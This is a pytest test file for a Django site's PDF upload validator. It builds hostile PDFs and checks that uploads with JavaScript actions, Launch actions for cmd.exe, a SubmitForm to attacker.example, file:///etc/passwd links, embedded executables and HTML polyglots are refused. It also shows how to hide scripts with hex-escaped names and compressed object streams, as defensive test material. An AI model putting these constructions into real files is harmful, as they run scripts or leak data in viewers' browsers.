"""PDFs built to run scripts or carry files in a browser's PDF viewer are refused at upload, and nothing is stored.

A PDF opened at /publications/<slug>/read/ runs under the site's origin: JavaScript in it (an /OpenAction, a
document-level script, an automatic action, a link) would run as the site. Every hostile file is built here, with
pypdf's writer or as raw bytes, and uploaded through the admin's publication form with its file inline.
"""

import html
import io
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from publications.models import Publication, PublicationFile
from publications.samples import sample_pdf
from publications.storage import get_private_storage
from publications.validators import validate_pdf_upload
from tests.publications.admin_posts import post_new_publication

pytestmark = pytest.mark.django_db

ALERT = "app.alert('Hello from ' + this.URL)"


# Building PDFs -------------------------------------------------------------------------------------------------------


def name(value):
    return NameObject(value)


def action(kind, **entries):
    """An action dictionary: /S kind, plus entries given as /Key=value (strings become PDF text strings)."""
    result = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        result[name(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return result


def new_writer(pages=1):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    return writer


def written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_catalog_entry(key, value):
    writer = new_writer()
    writer.root_object[name(key)] = writer._add_object(value)
    return written(writer)


def with_annotation(annotation, page_count=1):
    writer = new_writer(page_count)
    annotation.setdefault(name("/Type"), name("/Annot"))
    annotation.setdefault(name("/Rect"), ArrayObject([FloatObject(n) for n in (10, 10, 100, 40)]))
    writer.add_annotation(page_number=page_count - 1, annotation=annotation)
    return written(writer)


def link_running(link_action):
    return with_annotation(DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): link_action}))


def raw_pdf(*bodies, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """A PDF written byte by byte: object 1 is the catalog; the cross-reference table has the right offsets."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def object_stream_pdf(catalog, *others):
    """A PDF 1.5 file whose catalog, pages and the `others` are compressed (FlateDecode) inside an object stream,
    indexed by a compressed cross-reference stream: none of their keys appear in the file's bytes."""
    inner = [catalog, PAGES, PAGE, *others]
    table, data = b"", b""
    for number, body in enumerate(inner, 1):
        table += b"%d %d " % (number, len(data))
        data += body + b"\n"
    stream = zlib.compress(table + data)
    objstm_number, xref_number = len(inner) + 1, len(inner) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        objstm_number,
        len(inner),
        len(table),
        len(stream),
    )
    out += stream + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"  # object 0: free
    rows += b"".join(
        b"\x02" + objstm_number.to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(len(inner))
    )
    rows += b"\x01" + objstm_offset.to_bytes(4, "big") + b"\x00\x00"
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00"
    rows = zlib.compress(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


# Uploading them ------------------------------------------------------------------------------------------------------


def stored_files():
    return {path for path in Path(get_private_storage().location).rglob("*") if path.is_file()}


def upload(data, filename="report.pdf"):
    return SimpleUploadedFile(filename, data, content_type="application/pdf")


def refusal(client, data, code):
    """Upload `data` in the admin; assert it is refused with `code`, its message shown and nothing stored."""
    with pytest.raises(ValidationError) as refused:
        validate_pdf_upload(upload(data))
    assert refused.value.code == code
    message = refused.value.messages[0]
    before = stored_files()
    response = post_new_publication(client, upload(data))
    assert response.status_code == 200  # the form again, with the error: not a redirect to the saved record
    assert message in html.unescape(response.content.decode())
    assert not Publication.objects.exists()
    assert not PublicationFile.objects.exists()
    assert stored_files() == before
    return message


SCRIPT_ADVICE = "PDFs on the site may not run scripts"
EXPORT_ADVICE = "'Print to PDF' or 'Save as PDF' from Word"


# Scripts and actions that run by themselves -------------------------------------------------------------------------


def test_a_pdf_whose_open_action_runs_javascript_is_refused(admin_client):
    message = refusal(admin_client, with_catalog_entry("/OpenAction", JavaScript(ALERT)), "active_content")
    assert "This PDF contains JavaScript (when the document is opened)." in message
    assert SCRIPT_ADVICE in message and EXPORT_ADVICE in message


def test_a_pdf_whose_open_action_launches_a_program_is_refused(admin_client):
    launch = action("/Launch", F="cmd.exe", Win=DictionaryObject({name("/F"): TextStringObject("cmd.exe")}))
    message = refusal(admin_client, with_catalog_entry("/OpenAction", launch), "active_content")
    assert "an action that starts a program or opens a file (when the document is opened)" in message


def test_a_pdf_hiding_javascript_after_a_harmless_go_to_open_action_is_refused(admin_client):
    go_to = action("/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")]), Next=ArrayObject([JavaScript(ALERT)]))
    message = refusal(admin_client, with_catalog_entry("/OpenAction", go_to), "active_content")
    assert "JavaScript (when the document is opened)" in message


def test_a_pdf_whose_open_action_opens_a_web_address_by_itself_is_refused(admin_client):
    visit = action("/URI", URI="https://attacker.example/")
    message = refusal(admin_client, with_catalog_entry("/OpenAction", visit), "active_content")
    assert "an action of type URI that runs by itself (when the document is opened)" in message


def test_a_pdf_with_document_level_javascript_is_refused(admin_client):
    writer = new_writer()
    writer.add_open_action(JavaScript(ALERT))  # despite its name: a script in the /Names /JavaScript tree
    message = refusal(admin_client, written(writer), "active_content")
    assert "This PDF contains JavaScript (in its document-level scripts)." in message


def test_a_pdf_running_javascript_when_a_page_opens_is_refused(admin_client):
    writer = new_writer(pages=2)
    writer.pages[1].add_action(PageTrigger.OPEN, JavaScript(ALERT))
    message = refusal(admin_client, written(writer), "active_content")
    assert "JavaScript (in the automatic actions of page 2)" in message


def test_a_pdf_running_javascript_when_it_closes_is_refused(admin_client):
    will_close = DictionaryObject({name("/WC"): JavaScript(ALERT)})
    message = refusal(admin_client, with_catalog_entry("/AA", will_close), "active_content")
    assert "JavaScript (in the document's automatic actions)" in message


def test_a_pdf_with_a_form_field_that_runs_javascript_on_a_keystroke_is_refused(admin_client):
    writer = new_writer()
    field = DictionaryObject(
        {
            name("/FT"): name("/Tx"),
            name("/T"): TextStringObject("name"),
            name("/AA"): DictionaryObject({name("/K"): JavaScript(ALERT)}),
        }
    )
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([writer._add_object(field)])}
    )
    message = refusal(admin_client, written(writer), "active_content")
    assert "JavaScript (in a form field)" in message


def test_a_pdf_with_an_xfa_form_is_refused(admin_client):
    writer = new_writer()
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script>")}
    )
    message = refusal(admin_client, written(writer), "active_content")
    assert "an XFA form, which can run scripts" in message


# Links and annotations a reader clicks -------------------------------------------------------------------------------


def test_a_pdf_with_a_link_that_runs_javascript_is_refused(admin_client):
    message = refusal(admin_client, link_running(JavaScript(ALERT)), "active_content")
    assert "JavaScript (in a link or form field on page 1)" in message


@pytest.mark.parametrize("address", ["javascript:app.alert(1)", " JaVa\tScRiPt:app.alert(1)"])
def test_a_pdf_with_a_javascript_address_link_is_refused(admin_client, address):
    message = refusal(admin_client, link_running(action("/URI", URI=address)), "active_content")
    assert "JavaScript (in a link or form field on page 1)" in message


@pytest.mark.parametrize(
    ("link_action", "found"),
    [
        (action("/Launch", F="calc.exe"), "an action that starts a program or opens a file"),
        (action("/SubmitForm", F="https://attacker.example/collect"), "an action that sends form data"),
        (action("/ImportData", F="data.fdf"), "an action that imports data from another file"),
        (action("/GoToR", F="other.pdf", D=ArrayObject([NumberObject(0), name("/Fit")])), "opens another file"),
        (action("/GoToE", NewWindow=NumberObject(1)), "a link into a file embedded in the PDF"),
        (action("/RichMediaExecute"), "an action that runs embedded media"),
        (action("/Rendition", JS=ALERT), "an action that plays media (and can run JavaScript)"),
        (action("/URI", URI="file:///etc/passwd"), "a link to a file: address"),
    ],
)
def test_a_pdf_with_a_link_that_starts_programs_sends_data_or_opens_files_is_refused(admin_client, link_action, found):
    assert found in refusal(admin_client, link_running(link_action), "active_content")


def test_a_pdf_with_an_annotation_running_javascript_on_mouse_over_is_refused(admin_client):
    annotation = DictionaryObject(
        {
            name("/Subtype"): name("/Link"),
            name("/A"): action("/URI", URI="https://www.iom.int/"),
            name("/AA"): DictionaryObject({name("/E"): JavaScript(ALERT)}),
        }
    )
    message = refusal(admin_client, with_annotation(annotation), "active_content")
    assert "JavaScript (in a link or form field on page 1)" in message


def test_a_pdf_with_a_bookmark_that_runs_javascript_is_refused(admin_client):
    writer = new_writer()
    bookmark = writer.add_outline_item(title="Chapter 1", page_number=0).get_object()
    bookmark.pop("/Dest", None)  # pypdf writes a /GoTo action in /A; replace it
    bookmark[name("/A")] = JavaScript(ALERT)
    message = refusal(admin_client, written(writer), "active_content")
    assert "JavaScript (in a bookmark)" in message


# Files inside the PDF ------------------------------------------------------------------------------------------------


def test_a_pdf_carrying_an_embedded_file_is_refused(admin_client):
    writer = new_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    message = refusal(admin_client, written(writer), "embedded_files")
    assert "This PDF contains files attached to the document." in message
    assert "may not carry other files inside them" in message and EXPORT_ADVICE in message


def test_a_pdf_with_a_file_attachment_annotation_is_refused(admin_client):
    spec = DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): TextStringObject("payload.exe")})
    annotation = DictionaryObject({name("/Subtype"): name("/FileAttachment"), name("/FS"): spec})
    message = refusal(admin_client, with_annotation(annotation, page_count=3), "embedded_files")
    assert "a file attached (on page 3)" in message


# Disguises: escaped names, compressed objects, HTML ------------------------------------------------------------------


def test_a_pdf_spelling_javascript_with_hex_escapes_is_refused(admin_client):
    # /Open#41ction is /OpenAction and /J#61vaScript is /JavaScript: a viewer reads them the same.
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>",
    )
    assert b"/JavaScript" not in data and b"/OpenAction" not in data
    message = refusal(admin_client, data, "active_content")
    assert "JavaScript (when the document is opened)" in message


def test_a_pdf_hiding_document_level_javascript_in_a_compressed_object_stream_is_refused(admin_client):
    data = object_stream_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        b"<< /Names [(x) 5 0 R] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )
    assert b"JavaScript" not in data and b"/Catalog" not in data  # nothing to find in the raw bytes
    message = refusal(admin_client, data, "active_content")
    assert "JavaScript (in its document-level scripts)" in message


def test_a_pdf_hiding_an_open_action_in_a_compressed_object_stream_is_refused(admin_client):
    data = object_stream_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /S /Launch /F (cmd.exe) >>",
    )
    message = refusal(admin_client, data, "active_content")
    assert "an action that starts a program or opens a file (when the document is opened)" in message


@pytest.mark.parametrize(
    "markup",
    [
        b"<html><script>alert(document.domain)</script></html>",
        b"<BODY onload=alert(1)>",
        b"<svg/onload=alert(1)>",
        b"<iframe src=javascript:alert(1)>",
    ],
)
def test_a_pdf_that_is_also_a_web_page_is_refused(admin_client, markup):
    data = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, header=b"%PDF-1.7\n%" + markup + b"\n")
    message = refusal(admin_client, data, "html_polyglot")
    assert "web-page code (HTML)" in message and EXPORT_ADVICE in message


# Ordinary PDFs stay accepted ------------------------------------------------------------------------------------------


def accepted(client, data):
    response = post_new_publication(client, upload(data))
    assert response.status_code == 302, html.unescape(response.content.decode())
    file = Publication.objects.get(slug="elements-agenda").files.get()
    assert Path(get_private_storage().path(file.file.name)).exists()
    return file


def test_an_ordinary_pdf_with_web_links_and_a_go_to_open_destination_is_accepted(admin_client):
    # As Word or InDesign export: the document opens on page 1 (/OpenAction [page /Fit]), links go to the web or to
    # another page, and bookmarks go to pages.
    writer = new_writer(pages=2)
    writer.root_object[name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
    writer.add_annotation(0, Link(rect=(10, 10, 100, 40), url="https://www.iom.int/"))
    writer.add_annotation(0, Link(rect=(10, 50, 100, 80), target_page_index=1))
    writer.add_annotation(0, link_action_annotation(action("/URI", URI="mailto:mrfbrussels@iom.int")))
    writer.add_outline_item(title="Page 2", page_number=1)
    data = written(writer)
    validate_pdf_upload(upload(data))
    assert accepted(admin_client, data).page_count == 2


def link_action_annotation(link_action):
    return DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): ArrayObject([FloatObject(n) for n in (10, 90, 100, 120)]),
            name("/A"): link_action,
        }
    )


def test_a_pdf_whose_open_action_is_a_go_to_action_is_accepted():
    go_to = action("/GoTo", D=ArrayObject([NumberObject(0), name("/FitH"), NumberObject(800)]))
    validate_pdf_upload(upload(with_catalog_entry("/OpenAction", go_to)))


def test_an_fpdf2_pdf_with_links_is_accepted():
    # fpdf2 (which makes the site's sample files) writes /OpenAction [page /FitH null] and /URI link annotations.
    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    inside = pdf.add_link(page=2)
    pdf.cell(0, 10, "IOM", link="https://www.iom.int/", new_x="LMARGIN", new_y="NEXT")
    pdf.cell(0, 10, "Go to page 2", link=inside)
    pdf.add_page()
    data = bytes(pdf.output())
    assert b"/OpenAction" in data and b"/URI" in data
    validate_pdf_upload(upload(data))


def test_a_pdf_that_restricts_editing_with_an_owner_password_is_accepted():
    # Opens without a password (only printing or copying is restricted), so it is checked like any other PDF.
    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    pdf.cell(0, 10, "Restricted")
    pdf.set_encryption(owner_password="owner", encryption_method="AES_256")
    validate_pdf_upload(upload(bytes(pdf.output())))


def test_a_pdf_whose_text_mentions_html_tags_later_in_the_file_is_accepted():
    # Only the first kilobyte is sniffed by browsers; markup in a later, uncompressed page is ordinary text.
    pdf = FPDF()
    pdf.compress = False
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    pdf.multi_cell(0, 10, "Filler text. " * 200 + "Use <script> and <html> tags with care.")
    data = bytes(pdf.output())
    assert data.find(b"<script>") > 1100
    validate_pdf_upload(upload(data))


def test_the_sites_sample_pdfs_are_accepted():
    # The stand-in files load_seed_content makes for publications whose original PDF is not in the record.
    data = sample_pdf("Elements for an EU Agenda on Migration", kind="Policy paper", date="March 2015", pages=4)
    validate_pdf_upload(upload(data))
